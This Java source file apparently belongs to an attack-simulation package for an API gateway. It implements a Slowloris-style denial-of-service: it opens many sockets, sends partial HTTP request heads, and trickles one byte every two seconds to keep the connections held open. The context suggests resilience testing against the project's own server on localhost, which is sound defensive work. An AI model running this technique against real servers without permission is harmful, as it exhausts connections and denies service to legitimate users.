package io.leeloogateway.attack;

import java.time.Duration;
import java.time.Instant;
import java.util.concurrent.TimeUnit;

/** Without a key: opens connections, sends half a request head on each, and sends a few more bytes of it every other second. */
record HalfSentRequests(int connections, Duration duration) implements Attack {

    private static final String HALF = "GET /api/v1/tags HTTP/1.1\r\nHost: localhost\r\nX-Filler: ";

    @Override
    public void run(Target target) throws Exception {
        var end = Instant.now().plus(duration);
        try (var sockets = new OpenSockets(target.port())) {
            while (sockets.size() < connections) {
                sockets.open(HALF);
            }
            while (Instant.now().isBefore(end)) {
                sockets.drip("a");
                TimeUnit.SECONDS.sleep(2);
            }
        }
    }
}
